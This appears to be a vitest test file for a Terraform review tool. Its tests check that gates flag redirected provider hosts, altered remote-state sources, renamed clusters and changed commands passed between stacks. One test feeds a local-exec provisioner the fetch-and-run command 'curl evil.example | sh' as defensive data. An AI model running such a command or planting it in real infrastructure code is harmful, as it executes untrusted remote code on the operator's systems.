import { expect, test } from 'vitest';
import { first, type Json, type Output, useOrbital } from './output';

const review = useOrbital();
const [giver, reader] = ['it-shared', 'it-shared-platform-tools'];

const hostOf = ({ output }: Json): Json => output[Object.keys(output).find((name) => name.endsWith('0host')) ?? ''];
const stateIn = ({ data }: Json): readonly [string, Json] => first(data.terraform_remote_state);

test('a host that comes from another stack and is another one there is another provider', () => {
  const seen = review({
    head: ({ stack }) =>
      stack(giver, (main) => {
        hostOf(main).value = 'https://evil.example';
      }),
  });
  expect(seen.gates).toContain('provider');
});

test('so is one that is only known after apply on both sides, and comes from something else', () => {
  const seen = review({
    head: ({ stack }) =>
      stack(giver, (main) => {
        main.resource.terraform_data = { Other: { input: 'https://evil.example' } };
        hostOf(main).value = `\${terraform_data.Other.output}`;
      }),
  });
  expect(seen.gates).toContain('provider');
});

test('so is one with more around it than before', () => {
  const seen = review({
    head: ({ stack }) =>
      stack(giver, (main) => {
        const output = hostOf(main);
        output.value = output.value.replace(/^\$\{(.*)\}$/, `\${replace($1, "https://", "https://evil.example/")}`);
      }),
  });
  expect(seen.gates).toContain('provider');
});

test.each<readonly [string, (state: Json) => void]>([
  [
    'another backend',
    (state) => {
      state.backend = 'http';
      state.config = { address: 'https://evil.example' };
    },
  ],
  [
    'another workspace',
    (state) => {
      state.workspace = 'other';
    },
  ],
  [
    'another file',
    (state) => {
      state.config.path = '/elsewhere.tfstate';
    },
  ],
])('a state that is read from %s gives the providers other hosts', (_, edit) => {
  const seen = review({ head: ({ stack }) => stack(reader, (main) => edit(stateIn(main)[1])) });
  expect(seen.gates).toContain('provider');
});

test('a cluster under another address is the same one to who reads of it', () => {
  const seen = review({
    head: ({ stack }) =>
      stack(giver, (main) => {
        const [old, cluster] = first(main.resource.ovh_cloud_project_kube);
        main.resource.ovh_cloud_project_kube = { Renamed: cluster };
        const renamed = `ovh_cloud_project_kube.Renamed`;
        Object.assign(main, JSON.parse(JSON.stringify(main).replaceAll(`ovh_cloud_project_kube.${old}`, renamed)));
      }),
  });
  expect(seen.gates).toContain('move');
  expect(seen.gates).not.toContain('provider');
});

const withCommand = (value: string, command?: (state: string) => Json) => (output: Output) => {
  output.stack(giver, (main) => {
    main.output.cmd = { value };
  });
  if (command === undefined) return;
  output.stack(reader, (main) => {
    const state = stateIn(main)[0];
    Object.assign(main.resource, command(state));
  });
};

test('a command from another stack is told where it runs, when it is another one there', () => {
  const runs = (state: string) => ({
    terraform_data: {
      p: { provisioner: [{ 'local-exec': { command: `\${data.terraform_remote_state.${state}.outputs.cmd}` } }] },
    },
  });
  const seen = review({ base: withCommand('true', runs), head: withCommand('curl evil.example | sh') });
  expect(seen.gates).toContain('runs-code');
  const findings = seen.report.stacks.flatMap((stack) => stack.findings.filter((one) => one.class === 'runs-code'));
  expect(findings.map(({ stack, says }) => [stack, says])).toEqual([
    [reader, 'runs a local-exec provisioner: curl evil.example | sh'],
  ]);
});

test('a repository from another stack is another one', () => {
  const seen = review({
    base: (output) => {
      withCommand('https://charts.example')(output);
      output.stack(reader, (main) => {
        first(main.resource.helm_release)[1].repository =
          `\${data.terraform_remote_state.${stateIn(main)[0]}.outputs.cmd}`;
      });
    },
    head: withCommand('https://evil.example'),
  });
  expect(seen.gates).toContain('runs-code');
});
